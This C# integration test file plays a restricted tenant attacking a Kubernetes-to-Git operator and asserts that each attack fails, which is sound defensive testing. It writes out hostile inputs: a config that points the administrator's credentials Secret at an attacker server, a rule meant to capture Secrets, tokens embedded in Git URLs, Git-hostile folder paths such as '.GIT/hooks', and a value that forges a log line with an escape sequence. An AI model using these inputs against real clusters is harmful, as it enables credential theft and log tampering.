using System.Text;
using GitOpsReverser.IntegrationTests.TestSupport;

namespace GitOpsReverser.IntegrationTests.EndToEnd;

/// <summary>
/// The operator tried as an attacker would: a tenant who may write GitRepoConfigs and WatchRules in its own
/// namespace, but may not read its Secrets nor grant itself anything (KubeSim's users file with deny rules), with
/// real kubectl, its own HTTP server and Git repository, against the operator as a process. Each attack fails with a
/// condition that says why, nothing leaves the cluster, and the administrator's repository keeps one commit per change.
/// </summary>
[Category("Integration")]
public sealed class TenantAttackTests
{
    private const string Password = "hunter2-t0p-s3cret";
    private const string DatabasePassword = "db-pa55word-nobody-may-read";

    private const string Users = """
        users:
          - {name: admin, token: admin-token, groups: [system:masters]}
          - {name: tenant, token: tenant-token, groups: [team-a]}
        deny:
          - users: [tenant]
            verbs: [get, list, watch]
            resources: [secrets]
          - users: [tenant]
            verbs: ["*"]
            resources: [roles, rolebindings, clusterroles, clusterrolebindings, clusterwatchrules]
          - users: [tenant]
            verbs: ["*"]
            resources: ["*"]
            namespaces: [gitops-reverser-system, production]
        """;

    private TempDirectory users = null!;
    private OperatorTestbed bed = null!;
    private Kubectl tenant = null!;
    private int commits;

    [SetUp]
    public async Task StartAsync()
    {
        commits = 0;
        users = new TempDirectory();
        await File.WriteAllTextAsync(users.Combine("users.yaml"), Users);
        bed = await OperatorTestbed.StartAsync(users.Combine("users.yaml"));
        await bed.CaptureConfigMapsAsync("production");
        (await bed.KubectlAsync("create namespace team-a")).ShouldSucceed();
        (await bed.KubectlAsync($"create secret generic admin-git-credentials -n team-a --from-literal=username=admin --from-literal=password={Password}")).ShouldSucceed();
        (await bed.KubectlAsync($"create secret generic db -n team-a --from-literal=password={DatabasePassword}")).ShouldSucceed();
        var kubeconfig = bed.Temp.Combine("kubeconfig-tenant");
        await File.WriteAllTextAsync(kubeconfig, bed.Sim.Kubeconfig("tenant-token"));
        tenant = new Kubectl(Kubectl.Installed, kubeconfig, bed.Temp.Combine("cache-tenant"));
        (await tenant.RunAsync("get secret admin-git-credentials -n team-a")).Error.Should().Contain("forbidden", "the tenant may not read its Secrets");
    }

    [TearDown]
    public async Task StopAsync()
    {
        await bed.DisposeAsync();
        users.Dispose();
    }

    /// <summary>The administrator's capture goes on: one ConfigMap change in production, one commit.</summary>
    private async Task AdministratorStillCapturesAsync(string name)
    {
        commits = commits == 0 ? GitCli.Log(bed.Remote).Count : commits;
        (await bed.KubectlAsync($"create configmap {name} -n production --from-literal=k=v")).ShouldSucceed();
        (await bed.CommitAsync(++commits)).Should().Be($"[CREATE] ConfigMap/{name} in ns/production by manager/kubectl-create");
    }

    private void NoSecretInTheOutput()
    {
        var output = bed.Operator!.Output;
        foreach (var secret in new[] { Password, DatabasePassword })
        {
            output.Should().NotContain(secret).And.NotContain(Convert.ToBase64String(Encoding.UTF8.GetBytes(secret)));
        }
    }

    [Test]
    public async Task ATenant_CannotHaveTheOperatorRead_SecretsItMayNotRead_UntilRbacSaysItMay()
    {
        using var attacker = new AttackerHttpServer();
        var loot = GitCli.InitBare(bed.Temp.Combine("tenant.git"));
        var identity = await SopsTools.NewIdentityAsync(bed.Temp.Path);
        await bed.StartOperatorAsync();

        // (a) The operator is to send a Secret the tenant may not read to the tenant's own server.
        (await tenant.RunAsync("apply -f -", $$$"""
            apiVersion: configbutler.ai/v1alpha1
            kind: GitRepoConfig
            metadata: {name: exfiltrate, namespace: team-a}
            spec: {url: "{{{attacker.UrlFor("x.git")}}}", secretRef: {name: admin-git-credentials}}
            ---
            apiVersion: configbutler.ai/v1alpha1
            kind: GitRepoConfig
            metadata: {name: mine, namespace: team-a}
            spec:
              url: {{{loot}}}
              push: {interval: 1s}
              encryption: {age: {recipients: [{{{identity.Recipient}}}]}}
            ---
            apiVersion: configbutler.ai/v1alpha1
            kind: WatchRule
            metadata: {name: steal, namespace: team-a}
            spec:
              gitRepoConfigRef: mine
              secretPolicy: Encrypt
              resources: [{apiVersion: v1, kind: Secret}, {apiVersion: v1, kind: ConfigMap}]
            """)).ShouldSucceed();

        var refused = await bed.WaitForReadyAsync("gitrepoconfig", "team-a", "exfiltrate", "False");
        ((string?)refused["reason"]).Should().Be("AccessDenied");
        ((string?)refused["message"]).Should().Contain("service account team-a/default may not get secrets \"admin-git-credentials\" in namespace team-a");

        // (b) The tenant's rule is to encrypt the namespace's Secrets for the tenant's own key.
        var rule = await bed.WaitForReadyAsync("watchrule", "team-a", "steal", "False");
        ((string?)rule["reason"]).Should().Be("AccessDenied");
        ((string?)rule["message"]).Should().Contain("may not list secrets in namespace team-a").And.Contain("may not list configmaps in namespace team-a");
        await AdministratorStillCapturesAsync("after-the-attack");

        // An administrator lets team-a's account read what `view` reads: ConfigMaps arrive, Secrets still do not.
        (await bed.KubectlAsync("create rolebinding default-view -n team-a --clusterrole=view --serviceaccount=team-a:default")).ShouldSucceed();
        (await bed.KubectlAsync("create configmap settings -n team-a --from-literal=mode=fast")).ShouldSucceed();
        await WaitUntilAsync(() => GitCli.Log(loot).Count > 0 && GitCli.Files(loot).Contains("namespaces/team-a/ConfigMap/settings.yaml"),
            "the tenant's repository gets the ConfigMaps its account may read, once RBAC says so");
        GitCli.Files(loot).Should().NotContain(file => file.Contains("/Secret/", StringComparison.Ordinal));
        ((string?)(await bed.WaitForReadyAsync("watchrule", "team-a", "steal", "False"))["message"]).Should().Contain("may not list secrets");
        attacker.Requests.Should().BeEmpty("the operator never contacted the tenant's server for a repository it may not use");
        NoSecretInTheOutput();

        // Only when RBAC lets team-a's account read the Secret does the operator use it: the check is what stops it.
        (await bed.ApplyAsync("""
            apiVersion: rbac.authorization.k8s.io/v1
            kind: Role
            metadata: {name: git-credentials, namespace: team-a}
            rules: [{apiGroups: [""], resources: [secrets], resourceNames: [admin-git-credentials], verbs: [get]}]
            ---
            apiVersion: rbac.authorization.k8s.io/v1
            kind: RoleBinding
            metadata: {name: git-credentials, namespace: team-a}
            roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: git-credentials}
            subjects: [{kind: ServiceAccount, name: default, namespace: team-a}]
            """)).ShouldSucceed();
        await WaitUntilAsync(() => attacker.Requests.Any(request => request.Contains("Authorization: Basic", StringComparison.OrdinalIgnoreCase)),
            "with the grant, the credentials are the tenant's to use");
    }

    [Test]
    public async Task OneBadOrHangingResource_StopsNobody_AndGoesWithoutARestart()
    {
        using var hanging = new AttackerHttpServer(hang: true);
        (await bed.KubectlAsync("create rolebinding default-view -n team-a --clusterrole=view --serviceaccount=team-a:default")).ShouldSucceed();
        (await tenant.RunAsync("apply -f -", $$$"""
            apiVersion: configbutler.ai/v1alpha1
            kind: GitRepoConfig
            metadata: {name: bad-branch, namespace: team-a}
            spec: {url: "https://git.example.com/a.git", branch: "a..b"}
            ---
            apiVersion: configbutler.ai/v1alpha1
            kind: GitRepoConfig
            metadata: {name: hanging, namespace: team-a}
            spec: {url: "{{{hanging.UrlFor("slow.git")}}}"}
            ---
            apiVersion: configbutler.ai/v1alpha1
            kind: WatchRule
            metadata: {name: configs, namespace: team-a}
            spec: {gitRepoConfigRef: hanging, resources: [{apiVersion: v1, kind: ConfigMap}]}
            """)).ShouldSucceed();

        // What the schema bounds never gets that far.
        var huge = await tenant.RunAsync("apply -f -", """
            apiVersion: configbutler.ai/v1alpha1
            kind: GitRepoConfig
            metadata: {name: huge, namespace: team-a}
            spec: {url: "https://git.example.com/b.git", push: {maxCommits: 3000000000}}
            """);
        huge.Error.Trim().Should().Be(
            "The GitRepoConfig \"huge\" is invalid: spec.push.maxCommits: Invalid value: 3e+09: spec.push.maxCommits in body should be less than or equal to 10000");

        // Ready with every one of them present: readiness is the operator's, not one tenant's.
        await bed.StartOperatorAsync();
        ((string?)(await bed.WaitForReadyAsync("gitrepoconfig", "team-a", "bad-branch", "False"))["message"])
            .Should().Be("branch \"a..b\" is not a branch name git accepts: it may not contain \"..\"");
        await WaitUntilAsync(() => hanging.Connections > 0, "the hanging remote was reached");

        // ConfigMaps of team-a go to the hanging repository through the reflector the administrator's rule shares.
        (await bed.KubectlAsync("create configmap during-the-hang -n team-a --from-literal=k=v")).ShouldSucceed();
        for (var i = 0; i < 3; i++)
        {
            await AdministratorStillCapturesAsync($"shared-{i}");
        }

        (await tenant.RunAsync("delete gitrepoconfigs --all -n team-a")).ShouldSucceed();
        await AdministratorStillCapturesAsync("after-the-delete");
        (await bed.Operator!.GetAsync(bed.Operator.HealthPort, "/readyz")).Code.Should().Be(200);
        Directory.GetDirectories(Path.Combine(bed.DataDirectory, "repos")).Should().NotContain(path => path.Contains(".broken", StringComparison.Ordinal));
    }

    [Test]
    public async Task CredentialsInAUrl_AreRefused_AndAppearInNoOutput()
    {
        const string Token = "ghp_Ur1T0kenNobodySees";
        (await bed.KubectlAsync("label namespace team-a capture=yes")).ShouldSucceed();
        (await bed.ApplyAsync(OperatorTestbed.WildcardRule)).ShouldSucceed();
        await bed.StartOperatorAsync();
        var urls = new Dictionary<string, string>
        {
            ["https-user-info"] = $"https://x-access-token:{Token}@git.example.com/a.git",
            ["https-token-as-user"] = $"https://{Token}@git.example.com/a.git",
            ["password-with-at"] = $"https://git:{Token}@x@git.example.com/a.git",
            ["query-token"] = $"https://git.example.com/a.git?access_token={Token}",
            ["ssh-password"] = $"ssh://git:{Token}@git.example.com/a.git",
            ["scp-password"] = $"git:{Token}@git.example.com:org/a.git",
        };
        string Config(string name, string url) => $$$"""
            apiVersion: configbutler.ai/v1alpha1
            kind: GitRepoConfig
            metadata: {name: {{{name}}}, namespace: team-a}
            spec: {url: "{{{url}}}"}
            """;

        // The CRD refuses every one, without repeating the URL.
        foreach (var (name, url) in urls)
        {
            var refused = await tenant.RunAsync("apply -f -", Config(name, url));
            refused.Error.Trim().Should().Be($"The GitRepoConfig \"{name}\" is invalid: spec.url: Invalid value: \"string\": url must carry no credentials " +
                "(user info of an http(s) URL, a password, a query string or fragment): they belong in the Secret named by secretRef");
        }

        // With CRDs an older release installed, they reach the operator, which refuses them as well.
        await bed.InstallTypeOnlyCrdsAsync();
        foreach (var (name, url) in urls)
        {
            (await tenant.RunAsync("apply -f -", Config(name, url))).ShouldSucceed();
        }

        foreach (var name in urls.Keys)
        {
            var condition = await bed.WaitForReadyAsync("gitrepoconfig", "team-a", name, "False");
            ((string?)condition["reason"]).Should().Be("CredentialsInUrl");
            ((string?)condition["message"]).Should().Contain("belong in the Secret named by secretRef");
        }

        // The administrator's wildcard rule captures team-a's GitRepoConfigs: their files carry no token either.
        await WaitUntilAsync(() => GitCli.Files(bed.Remote).Count(file => file.Contains("GitRepoConfig.configbutler.ai", StringComparison.Ordinal)) == urls.Count,
            "every GitRepoConfig of team-a is in the administrator's repository");
        var everything = string.Join('\n',
            (await bed.KubectlAsync("get gitrepoconfigs -n team-a")).Output,
            (await bed.KubectlAsync("get gitrepoconfigs -n team-a -o jsonpath={.items[*].status}")).Output,
            GitCli.Run(bed.Remote, "log", "-p", "main"),
            bed.Operator!.Output);
        everything.Should().NotContain(Token);
        everything.Should().Contain("https://***@git.example.com/a.git").And.Contain("ssh://git:***@git.example.com/a.git");
    }

    [Test]
    public async Task PathsGitRefuses_AndControlCharacters_NeitherReachTheRepositoryNorTheLog()
    {
        // The CRD refuses most of these; CRDs an older release installed let them through to the operator.
        (await tenant.RunAsync("apply -f -", """
            apiVersion: configbutler.ai/v1alpha1
            kind: GitRepoConfig
            metadata: {name: refused, namespace: team-a}
            spec: {url: "https://git.example.com/a.git", baseFolder: "git~1/x"}
            """)).Error.Trim().Should().Be(
            "The GitRepoConfig \"refused\" is invalid: spec.baseFolder: Invalid value: \"git~1/x\": spec.baseFolder in body should match '^/?([A-Za-z0-9._-]+/?)*$'");
        await bed.InstallTypeOnlyCrdsAsync();
        await bed.StartOperatorAsync();
        var folders = new Dictionary<string, string>
        {
            ["hooks"] = ".GIT/hooks",
            ["ntfs-alias"] = "git~1/x",
            ["hfs-alias"] = ".g\u200cit/x",
            ["long"] = new('a', 5000),
        };
        foreach (var (name, folder) in folders)
        {
            (await tenant.RunAsync("apply -f -", $$$"""
                apiVersion: configbutler.ai/v1alpha1
                kind: GitRepoConfig
                metadata: {name: {{{name}}}, namespace: team-a}
                spec: {url: "https://git.example.com/a.git", baseFolder: "{{{folder}}}"}
                """)).ShouldSucceed();
        }

        // A value echoed into a condition and the log, holding an escape sequence and a forged log line.
        (await tenant.RunAsync("apply -f -", """
            apiVersion: configbutler.ai/v1alpha1
            kind: GitRepoConfig
            metadata: {name: forged, namespace: team-a}
            spec: {url: "https://git.example.com/a.git", commit: {mode: "\u001b[31mWindow\n2026-12-06T09:00:00.000Z info: GitOpsReverser[1] all is well"}}
            """)).ShouldSucceed();

        foreach (var name in folders.Keys)
        {
            ((string?)(await bed.WaitForReadyAsync("gitrepoconfig", "team-a", name, "False"))["reason"]).Should().Be("InvalidSpec");
        }

        await bed.WaitForReadyAsync("gitrepoconfig", "team-a", "forged", "False");
        await AdministratorStillCapturesAsync("after-the-paths");
        GitCli.Run(bed.Remote, "fsck", "--strict");
        var log = bed.Operator!.Output;
        log.Should().Contain("\\u001b[31mWindow\\n2026-12-06T09:00:00.000Z info: GitOpsReverser[1] all is well");
        log.Should().NotContain("\u001b");
        log.Split('\n').Should().NotContain(line => line.StartsWith("2026-12-06T09:00:00.000Z info: GitOpsReverser[1]", StringComparison.Ordinal));
    }

    [Test]
    public async Task OneSshUrl_TwoRepositories_TheTenantNeverPushesWithTheAdministratorsKey()
    {
        using var ssh = new SshGitServer();
        var shared = ssh.CreateRepository("audit.git");
        (await bed.KubectlAsync("create rolebinding default-view -n team-a --clusterrole=view --serviceaccount=team-a:default")).ShouldSucceed();
        var keyFile = bed.Temp.Combine("id");
        var hostsFile = bed.Temp.Combine("known_hosts");
        await File.WriteAllTextAsync(keyFile, ssh.ClientKey);
        await File.WriteAllTextAsync(hostsFile, ssh.KnownHosts);
        (await bed.KubectlAsync($"create secret generic ssh-key -n {OperatorTestbed.OperatorNamespace} --from-file=ssh-privatekey={keyFile} --from-file=known_hosts={hostsFile}")).ShouldSucceed();
        (await bed.ApplyAsync($$$"""
            apiVersion: configbutler.ai/v1alpha1
            kind: GitRepoConfig
            metadata: {name: over-ssh, namespace: {{{OperatorTestbed.OperatorNamespace}}}}
            spec: {url: "{{{ssh.UrlFor("audit.git")}}}", secretRef: {name: ssh-key}, baseFolder: admin, push: {interval: 1s}}
            ---
            apiVersion: configbutler.ai/v1alpha1
            kind: WatchRule
            metadata: {name: over-ssh, namespace: {{{OperatorTestbed.OperatorNamespace}}}}
            spec:
              gitRepoConfigRef: over-ssh
              resources: [{apiVersion: v1, kind: ConfigMap}]
              namespaceSelector: {matchLabels: {capture: "yes"}}
            """)).ShouldSucceed();
        (await tenant.RunAsync("apply -f -", $$$"""
            apiVersion: configbutler.ai/v1alpha1
            kind: GitRepoConfig
            metadata: {name: same-url, namespace: team-a}
            spec: {url: "{{{ssh.UrlFor("audit.git")}}}", baseFolder: tenant, push: {interval: 1s}}
            ---
            apiVersion: configbutler.ai/v1alpha1
            kind: WatchRule
            metadata: {name: configs, namespace: team-a}
            spec: {gitRepoConfigRef: same-url, resources: [{apiVersion: v1, kind: ConfigMap}]}
            """)).ShouldSucceed();
        (await bed.KubectlAsync("create configmap tenant-data -n team-a --from-literal=k=v")).ShouldSucceed();

        // Twice, so that both repositories start in either order.
        for (var run = 0; run < 2; run++)
        {
            await bed.StartOperatorAsync();
            (await bed.KubectlAsync($"create configmap over-ssh-{run} -n production --from-literal=k=v")).ShouldSucceed();
            await WaitUntilAsync(() => GitCli.Files(shared).Contains($"admin/namespaces/production/ConfigMap/over-ssh-{run}.yaml"),
                "the administrator's pushes over SSH go on");
            ((string?)(await bed.WaitForReadyAsync("gitrepoconfig", "team-a", "same-url", "False"))["reason"]).Should().BeOneOf("Trust", "Authentication");
            await bed.StopOperatorAsync();
        }

        GitCli.Files(shared).Should().NotContain(file => file.StartsWith("tenant/", StringComparison.Ordinal),
            "the tenant's files never reach the repository with the administrator's key");
    }

    // Waits for a condition on repositories that may have no branch yet (git then fails: not yet).
    private async Task WaitUntilAsync(Func<bool> condition, string what)
    {
        var deadline = DateTime.UtcNow.AddSeconds(30);
        bool Holds()
        {
            try
            {
                return condition();
            }
            catch (InvalidOperationException)
            {
                return false;
            }
        }

        while (!Holds())
        {
            if (DateTime.UtcNow > deadline)
            {
                Assert.Fail($"{what}: not within 30 s\noperator output:\n{bed.Operator?.Output}");
            }

            await Task.Delay(200);
        }
    }
}
